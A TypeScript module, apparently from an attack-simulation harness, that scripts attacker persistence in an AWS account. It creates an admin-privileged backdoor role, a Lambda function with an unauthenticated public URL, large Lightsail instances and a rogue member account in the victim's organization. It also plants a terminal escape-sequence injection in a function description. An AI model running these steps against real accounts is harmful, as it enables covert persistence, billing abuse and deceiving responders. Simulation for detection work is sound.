import {AttachRolePolicyCommand, CreateRoleCommand, IAMClient} from '@aws-sdk/client-iam';
import {
	AddPermissionCommand,
	CreateFunctionCommand,
	CreateFunctionUrlConfigCommand,
	LambdaClient,
} from '@aws-sdk/client-lambda';
import {CreateInstancesCommand, GetRegionsCommand, LightsailClient} from '@aws-sdk/client-lightsail';
import {
	CreateAccountCommand,
	DescribeCreateAccountStatusCommand,
	DescribeOrganizationCommand,
	ListAccountsCommand,
	OrganizationsClient,
} from '@aws-sdk/client-organizations';
import type {Actor, Intent} from '../../actors/actor.ts';
import type {Beat} from '../../actors/timeline.ts';
import {policy, roleArn} from '../company/founding.ts';
import {NAMES} from './cast.ts';
import {takeRole} from './foothold.ts';

/** What keeps a door open, and what lies where few look: a function with a public URL, Lightsail, an account. */
export function persist(attacker: Actor, accountId: string): Beat[] {
	const at = (ago: number, intent: Intent): Beat => ({ago, run: () => attacker.attempt(intent)});
	return [
		at(99, backdoorRole),
		at(98, backdoorFunction(accountId)),
		at(97, publicUrl),
		at(91, lightsail('us-east-1', ['wordpress-2', 'wordpress-3'])),
		at(90, lightsail('ap-northeast-1', ['nodejs-1'])),
		at(52, {
			by: 'deploy-role',
			act: hand =>
				takeRole(hand, {accountId, role: NAMES.organizationRole}, 'organization', 'billing-review'),
		}),
		at(51, {
			by: 'organization',
			act: hand => hand.client(OrganizationsClient).send(new DescribeOrganizationCommand({})),
		}),
		at(50, memberAccount),
		at(48, {
			by: 'organization',
			act: hand => hand.client(OrganizationsClient).send(new ListAccountsCommand({})),
		}),
	];
}

const backdoorRole: Intent = {
	by: 'deploy-role',
	async act(hand) {
		const iam = hand.client(IAMClient);
		const RoleName = NAMES.backdoorRole;
		await iam.send(
			new CreateRoleCommand({
				RoleName,
				AssumeRolePolicyDocument: policy({
					Effect: 'Allow',
					Principal: {Service: 'lambda.amazonaws.com'},
					Action: 'sts:AssumeRole',
				}),
			}),
		);
		await iam.send(
			new AttachRolePolicyCommand({RoleName, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess'}),
		);
	},
};

const FUNCTION_REGION = 'eu-west-1';

function backdoorFunction(accountId: string): Intent {
	return {
		by: 'deploy-role',
		async act(hand) {
			await hand.client(LambdaClient, FUNCTION_REGION).send(
				new CreateFunctionCommand({
					FunctionName: NAMES.backdoorFunction,
					Role: roleArn(accountId, NAMES.backdoorRole),
					Runtime: 'python3.13',
					Handler: 'index.handler',
					// Clears the screen of whoever prints it as it is, and renames their window.
					Description: '\u001b[2J\u001b]0;all clear\u0007rotates the logs',
					Code: {ZipFile: Buffer.from('PK\u0005\u0006'.padEnd(22, '\0'), 'latin1')},
					Timeout: 300,
				}),
			);
			hand.made('lambda-function', NAMES.backdoorFunction, FUNCTION_REGION);
		},
	};
}

const publicUrl: Intent = {
	by: 'deploy-role',
	async act(hand) {
		const lambda = hand.client(LambdaClient, FUNCTION_REGION);
		await lambda.send(
			new CreateFunctionUrlConfigCommand({FunctionName: NAMES.backdoorFunction, AuthType: 'NONE'}),
		);
		await lambda.send(
			new AddPermissionCommand({
				FunctionName: NAMES.backdoorFunction,
				StatementId: 'FunctionURLAllowPublicAccess',
				Action: 'lambda:InvokeFunctionUrl',
				Principal: '*',
				FunctionUrlAuthType: 'NONE',
			}),
		);
	},
};

function lightsail(region: string, instanceNames: string[]): Intent {
	return {
		by: NAMES.key,
		async act(hand) {
			const client = hand.client(LightsailClient, region);
			await client.send(new GetRegionsCommand({}));
			await client.send(
				new CreateInstancesCommand({
					instanceNames,
					availabilityZone: `${region}a`,
					blueprintId: 'ubuntu_24_04',
					bundleId: '4xlarge_3_0',
				}),
			);
			for (const name of instanceNames) {
				hand.made('lightsail-instance', name, region);
			}
		},
	};
}

/** An account of one's own in the victim's organization, on the victim's bill (field guide §14). */
const memberAccount: Intent = {
	by: 'organization',
	async act(hand) {
		const organizations = hand.client(OrganizationsClient);
		const {CreateAccountStatus} = await organizations.send(
			new CreateAccountCommand({Email: 'platform-sandbox@mail.example', AccountName: 'Platform Sandbox'}),
		);
		await organizations.send(
			new DescribeCreateAccountStatusCommand({CreateAccountRequestId: CreateAccountStatus?.Id}),
		);
	},
};
